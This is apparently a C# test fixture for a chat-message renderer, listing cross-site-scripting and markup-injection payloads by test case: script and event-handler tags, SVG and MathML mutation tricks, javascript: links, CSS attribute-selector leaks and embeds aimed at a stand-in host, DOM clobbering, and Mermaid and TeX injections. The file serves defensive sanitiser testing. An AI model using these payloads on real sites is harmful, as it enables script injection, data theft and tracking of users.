namespace Parley.BrowserTests.Rendering;

/// <summary>
/// What a model may write that means harm, by the case of the test catalogue that names it. Each piece is a block of its
/// own; <c>canary.test</c> is the host that nobody may ever ask for anything.
/// </summary>
internal static class Payloads
{
    public static readonly IReadOnlyDictionary<string, string[]> OfCase = new Dictionary<string, string[]>
    {
        ["B-01"] = ["<script>alert(1)</script>", "<ScRiPt>alert(1)</ScRiPt>", "<script/src=//canary.test/x.js></script>", "</div></article><script>alert(1)</script>"],
        ["B-02"] =
        [
            "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>", "<a onpointerover=alert(1)>over</a>",
        ],
        ["B-03"] =
        [
            "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        ],
        ["B-04"] =
        [
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math href=\"javascript:alert(1)\">click</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ],
        ["B-06"] =
        [
            "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [c](vbscript:msgbox) [d](blob:https://canary.test/1)",
            "[e](file:///etc/passwd) [f](ms-word:ofe|u|https://canary.test/) [g](//canary.test/) [h](\\\\canary.test\\share) <javascript:alert(1)> [i](java&#10;script:alert(1))",
        ],
        ["B-07"] =
        [
            "# h {onclick=alert(1)}", "[a](https://canary.test/){onclick=alert(1)}", "![a](https://canary.test/){onerror=alert(1)}", "```js {onclick=alert(1) style=position:fixed}\nlet a;\n```", "text{#thread .dialog style=color:red}",
        ],
        ["B-08"] =
        [
            "<iframe src=https://canary.test/ srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=https://canary.test/></object>", "<embed src=https://canary.test/>",
            "<base href=https://canary.test/>", "<meta http-equiv=refresh content=\"0;url=https://canary.test/\">", "<link rel=stylesheet href=https://canary.test/x.css>",
            "<form action=https://canary.test/><button formaction=https://canary.test/>Send</button></form>", "<portal src=https://canary.test/></portal>", "<div><template shadowrootmode=open><b>shadow</b></template></div>",
        ],
        ["B-09"] =
        [
            "<style>*{display:none}</style>", "<div style=\"position:fixed;inset:0;background:url(//canary.test/)\">over</div>", "<style>@import url(//canary.test/x.css);</style>",
            "<style>input[value^=a]{background:url(//canary.test/a)}</style>", "<div class=\"dialog skip side alert\">overlay</div>",
        ],
        ["B-10"] = ["<a id=thread name=body>one</a>", "<form name=getElementById><input name=action></form>", "<img name=getElementById>", "<a id=composer><a id=composer name=form href=clob:>"],
        ["B-12"] =
        [
            "```mermaid\ngraph TD\nA-->B\nclick A \"javascript:alert(1)\"\nclassDef x fill:red</style><script>alert(1)</script>\nC[\"$$<img src=x onerror=alert(1)>$$\"]\n```",
        ],
        ["B-13"] =
        [
            @"$\href{javascript:alert(1)}{x}$ and $\url{javascript:alert(1)}$", @"$\includegraphics{https://canary.test/x.png}$", @"$\htmlData{onclick=alert(1)}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlId{thread}{x}$",
            @"$\def\a{\a\a}\a$", "$$\n" + string.Concat(Enumerable.Repeat(@"\frac{1}{2}+", 400)) + "\n$$", "$<img src=x onerror=alert(1)>$",
        ],
        ["B-14"] = ["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[y](java&#10;script:alert(1))", "&#60;script&#62;alert(1)&#60;/script&#62;"],
        ["B-19"] =
        [
            "Note[^<b>1</b>] and[^n].\n\n[^n]: <img src=x onerror=alert(1)> in a note", "- [x] <script>alert(1)</script>", "| <b onclick=alert(1)>a</b> | b |\n|---|---|\n| <svg onload=alert(1)> | <style>*{}</style> |",
            "Term\n:   <img src=x onerror=alert(1)>", "::: dialog onclick=alert(1)\ninside\n:::", ":smile: <b>:x:</b>", "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
        ],
        ["B-22"] =
        [
            "<link rel=dns-prefetch href=//canary.test>", "<link rel=preconnect href=//canary.test>", "<video poster=//canary.test/p.png></video>", "<audio src=//canary.test/a.mp3></audio>", "<a ping=//canary.test/ href=https://canary.test/>p</a>",
        ],
    };
}
